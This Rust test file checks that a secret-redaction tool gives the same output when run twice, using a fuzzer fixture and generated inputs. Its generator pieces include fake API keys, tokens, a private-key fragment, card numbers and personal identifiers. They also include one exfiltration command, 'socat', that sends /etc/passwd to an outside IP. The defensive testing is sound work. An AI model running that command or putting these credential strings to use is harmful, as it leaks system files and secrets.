//! Redacting twice changes nothing: `redact(redact(x)) == redact(x)`. The fuzzer's
//! finding is kept as a fixture; generated texts mix secrets, assignments, JSON (plain,
//! escaped, nested), encodings, markers and cut-like boundaries around them.

use super::{Mode, Redactor};

fn once(mode: Mode, text: &str) -> String {
    Redactor::builtin(mode).redact_text(text).into_inner()
}

fn assert_idempotent(mode: Mode, text: &str) {
    let a = once(mode, text);
    let b = once(mode, &a);
    assert_eq!(a, b, "redacting twice changed the text; input: {text:?}");
}

#[test]
fn fuzz_fixture_redacts_the_same_twice() {
    // A JSON line whose walk redacted its strings (so the first pass kept the walk's
    // verdicts), while the second pass found nothing new in the walk and judged the raw
    // text instead, where `\nAWS_ACCESS_KEY=…` is no line start.
    let data = include_bytes!("../../tests/fixtures/fuzz/redact-not-idempotent-1.bin");
    let text = String::from_utf8_lossy(data);
    assert_idempotent(Mode::Mask, &text);
    assert_idempotent(Mode::Hash, &text);
    let a = once(Mode::Mask, &text);
    assert!(
        !a.contains("C8O7Pivfu26fme3Sr6oDePdjaeTRIukobvoSNsQMq"),
        "{a}"
    );
    assert!(!a.contains("ghp_ZIl8GnTm3k3DLh9niIvuiijh0pHFjq9gR3"), "{a}");
}

#[test]
fn json_walk_and_raw_text_agree_once_redacted() {
    // The same class, small: the walk judges decoded strings, so an env-style
    // constant-looking value is left alone in both passes.
    for text in [
        r#"{"out":"A=1\nAWS_ACCESS_KEY=_AAIIDKGNRBFGT7KC2GFWOO"}"#,
        r#"{"out":"GITHUB_TOKEN=ghp_ZIl8GnTm3k3DLh9niIvuiijh0pHFjq9gR3\nAWS_ACCESS_KEY=_AAIIDKGNRBFGT7KC2GFWOO"}"#,
        r#"{"b":"x","a":"API_KEY=Pw3kX9qLm2zQ\nDB_TOKEN=_X9Y8Z7W6V5U4"}"#,
    ] {
        assert_idempotent(Mode::Mask, text);
    }
}

/// Pieces the generator joins: secrets the rules find, near misses, keys, values,
/// separators (raw and JSON-escaped), markers and encodings.
const PIECES: &[&str] = &[
    "sk-proj-yp0rieCwcBA35aiZe3liak5dOnhJOPMONV4RrdrkrwIcIOjb",
    "ghp_ZIl8GnTm3k3DLh9niIvuiijh0pHFjq9gR3aa",
    "ghp_ZIl8GnTm3k3DLh9niIvuiijh0pHFjq9gR3",
    "AKIAIOSFODNN7EXAMPLE",
    "AKIAZ3MXQ7RT2LKP4WNB",
    "xoxb-1234567890-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "https://hooks.slack.com/services/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xr",
    "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpI\n-----END RSA PRIVATE KEY-----",
    "4111 1111 1111 1111",
    "4539578763621486",
    "card 4539578763621486",
    "dev@example.com",
    "alice.smith@corp.io",
    "+1 415 555 0132",
    "078-05-1120",
    "DE89370400440532013000",
    "postgres://admin:Pw3kX9qLm2@db.internal:5432/app",
    "curl -u admin:Pw3kX9qLm2 https://x.io",
    "socat -u FILE:/etc/passwd TCP:1.2.3.4:9",
    "--token Pw3kX9qLm2zQ",
    "--password=hunter22",
    "Authorization: Bearer abcDEF1234567890xyzQRS",
    "Cookie: session=a1B2c3D4e5F6g7H8",
    "password=hunter22",
    "password = \"hunter22\"",
    "password: SecretStr",
    "token = get_token()",
    "const csrfToken = document.querySelector('meta')",
    "AWS_SECRET_ACCESS_KEY=C8O7Pivfu26fme3Sr6oDePdjaeTRIukobvoSNsQMq",
    "AWS_ACCESS_KEY=",
    "GITHUB_TOKEN=",
    "API_KEY=",
    "api_key: ",
    "\"api_key\":",
    "secret=",
    "password%3D",
    "token%3DPw3kX9qLm2zQ",
    "_AAIIDKGNRBFGT7KC2GFWOO",
    "Pw3kX9qLm2zQ",
    "hunter22",
    "CLIENT_SECRET_0",
    "cGFzc3dvcmQ9UHcza1g5cUxtMnpR",
    "70617373776f72643d50773366583971",
    "[REDACTED:secret_assignment]",
    "[REDACTED:openai_api_key]",
    "[HASH:github_token:1a2b3c4d]",
    "[REDACTED:",
    "\n",
    "\\n",
    "\\\"",
    "\"",
    "'",
    " ",
    "  ",
    "\t",
    "=",
    ":",
    ",",
    ";",
    "&",
    "?",
    "/",
    "\\",
    "{",
    "}",
    "[",
    "]",
    "\u{fffd}\u{fffd}",
    "é",
    "export ",
    "HOME=/home/dev",
    "1733500000000",
    "123456789012",
];

struct Gen(u64);

impl Gen {
    fn next(&mut self, n: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((self.0 >> 33) % n as u64) as usize
    }

    fn text(&mut self, pieces: usize) -> String {
        (0..pieces)
            .map(|_| PIECES[self.next(PIECES.len())])
            .collect()
    }

    /// Free text, or it wrapped as JSON: a string value, several values, a string
    /// holding JSON, an array.
    fn case(&mut self) -> String {
        let n = 1 + self.next(8);
        let t = self.text(n);
        match self.next(6) {
            0 | 1 => t,
            2 => serde_json::json!({ "output": t }).to_string(),
            3 => {
                let k = self.text(1);
                let m = 1 + self.next(3);
                let v = self.text(m);
                serde_json::json!({ "a": t, k: v, "n": 4539578763621486u64 }).to_string()
            }
            4 => {
                let inner = serde_json::json!({ "cmd": t }).to_string();
                serde_json::json!({ "arguments": inner }).to_string()
            }
            _ => serde_json::json!([t, self.text(2)]).to_string(),
        }
    }
}

#[test]
fn generated_texts_redact_the_same_twice() {
    let mut g = Gen(0x5eed_1de3_2545_f491);
    for _ in 0..3000 {
        let t = g.case();
        assert_idempotent(Mode::Mask, &t);
    }
}

#[test]
fn generated_texts_redact_the_same_twice_in_hash_mode() {
    let mut g = Gen(0x00c0_ffee);
    for _ in 0..500 {
        let t = g.case();
        assert_idempotent(Mode::Hash, &t);
    }
}
